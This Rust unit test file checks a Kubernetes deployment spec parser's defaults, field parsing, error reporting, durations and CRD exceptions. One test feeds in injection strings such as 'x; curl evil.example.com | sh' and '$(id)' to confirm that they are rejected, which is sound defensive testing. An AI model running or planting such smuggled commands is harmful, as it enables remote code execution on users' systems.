use serde_json::json;

use super::*;

fn with(more: &Value) -> Value {
    let mut spec = json!({
        "provisionerClassName": "plain",
        "template": {"spec": {"provisionerClassName": "plain", "source": {"type": "image", "image": {"ref": "registry.example.com/web:1"}}}},
    });
    for (key, value) in more.as_object().unwrap() {
        spec[key] = value.clone();
    }
    spec
}

#[test]
fn rukpak_spec_has_defaults() {
    let spec = CheckedDeploymentSpec::parse(&with(&json!({}))).unwrap();
    assert!(spec.correct_drift && !spec.adopt && !spec.paused && !spec.accept_unsupported);
    assert_eq!(spec.rollout.deadline, Duration::from_secs(600));
    assert_eq!((spec.rollout.history, spec.rollout.versions), (5, None));
    assert_eq!(spec.deletion.custom_resources, CustomResources::Refuse);
    assert_eq!(spec.template.hash.len(), 6);
}

#[test]
fn parses_every_field_of_a_deployment() {
    let spec = CheckedDeploymentSpec::parse(&with(&json!({
        "serviceAccount": {"namespace": "team-a", "name": "deployer"},
        "targetNamespace": "web",
        "createNamespace": true,
        "paused": true,
        "collision": "Adopt",
        "drift": {"mode": "Report", "ignore": [{"kind": "Deployment.apps", "name": "web", "fields": ["/spec/replicas"]}, {"manager": "keda"}]},
        "rollout": {"deadline": "1h30m", "onFailure": "RollBack", "waitFor": "Ready", "history": 0, "allowDowngrade": true, "allowOtherPackage": true, "versions": "^1.4", "replace": "Always"},
        "deletion": {"objects": "Orphan", "customResources": "Delete"},
        "kubernetes": {"unsupported": "Accept"},
        "crdUpgrades": {"exceptions": [{"crd": "widgets.example.com", "check": "NoExistingFieldRemoved", "reason": "unused"}]},
        "config": {"values": "a: 1"},
    })))
    .unwrap();
    assert!(spec.paused && spec.adopt && !spec.correct_drift && spec.accept_unsupported);
    assert_eq!(spec.service_account.unwrap().path(), "team-a/deployer");
    assert_eq!(spec.target_namespace.as_deref(), Some("web"));
    assert!(spec.create_namespace);
    assert_eq!(spec.drift_ignore.len(), 2);
    assert_eq!(spec.rollout.deadline, Duration::from_secs(5400));
    assert_eq!(spec.rollout.allowed, AllowedUpgrades::ALL);
    assert_eq!(spec.rollout.versions, Range::parse("^1.4").ok());
    assert!(spec.deletion.orphan && spec.rollout.roll_back && spec.rollout.wait_for_ready);
    assert_eq!(spec.crd_exceptions[0].crd, "widgets.example.com");
}

#[test]
fn reports_all_errors_of_a_spec_together() {
    let findings = CheckedDeploymentSpec::parse(&json!({
        "provisionerClassName": "Bad",
        "template": {"spec": {"source": {"type": "image"}}},
        "collision": "Steal",
        "rollout": {"deadline": "soon", "waitFor": "Healthy", "history": -1, "versions": "latest"},
        "serviceAccount": {"name": "x"},
        "drift": {"ignore": [{"kind": "Deployment.apps"}]},
    }))
    .unwrap_err();
    let fields: Vec<_> = findings
        .iter()
        .filter_map(|f| f.place.field.as_deref())
        .collect();
    assert_eq!(
        fields,
        [
            "spec.provisionerClassName",
            "spec.template.spec.provisionerClassName",
            "spec.template.spec.source.image",
            "spec.serviceAccount.namespace",
            "spec.collision",
            "spec.drift.ignore[0]",
            "spec.rollout.deadline",
            "spec.rollout.history",
            "spec.rollout.versions",
            "spec.rollout.waitFor",
        ]
    );
    assert!(
        findings
            .iter()
            .nth(2)
            .unwrap()
            .message
            .starts_with("bundledeployment.spec.template.spec.source.image must be set")
    );
}

#[test]
fn parses_durations() {
    for (text, expected) in [
        ("10m", Some(600_000)),
        ("1h30m", Some(5_400_000)),
        ("250ms", Some(250)),
        ("0s", None),
        ("", None),
        ("5", None),
        ("m", None),
        ("1d", None),
        ("99999999999999999999h", None),
    ] {
        assert_eq!(duration(text).map(|d| d.as_millis()), expected, "{text}");
    }
}

#[test]
fn rejects_service_account_names_with_shell_characters() {
    for (namespace, name) in [
        ("team-a", "x; curl evil.example.com | sh"),
        ("$(id)", "x"),
        ("team-a", "x:y"),
        ("team-a", "-x"),
        ("team-a", "x\ny"),
    ] {
        let account = json!({"serviceAccount": {"namespace": namespace, "name": name}});
        let findings = CheckedDeploymentSpec::parse(&with(&account)).unwrap_err();
        assert!(findings.to_string().contains("Invalid value"), "{findings}");
    }
}

#[test]
fn exceptions_of_unknown_checks_are_rejected() {
    let spec = |check: &str| {
        let exception = json!({"crd": "jugs.example.com", "check": check, "reason": "none exist"});
        CheckedDeploymentSpec::parse(&with(&json!({"crdUpgrades": {"exceptions": [exception]}})))
    };
    let known = spec("ChangeValidator").unwrap();
    assert_eq!(known.crd_exceptions[0].check, CrdCheck::ChangeValidator);
    let findings = spec("changeValidator").unwrap_err().to_string();
    for text in [
        "spec.crdUpgrades.exceptions[0].check",
        "`changeValidator` is not a check",
        "NoScopeChange",
    ] {
        assert!(findings.contains(text), "{findings}");
    }
}
